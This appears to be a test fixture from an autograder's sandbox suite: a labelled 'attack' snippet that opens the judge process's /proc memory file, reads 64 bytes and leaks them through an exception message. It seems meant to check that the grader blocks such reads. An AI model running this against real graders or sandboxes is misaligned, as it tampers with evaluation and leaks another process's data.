# attack: Reads its own memory and the judge's.
# line: 75
# exercise: 06
# score: 0, not loaded
with open("/proc/@JUDGE@/mem", "rb") as memory:
    memory.seek(0x400000)
    raise ValueError(str(memory.read(64)))
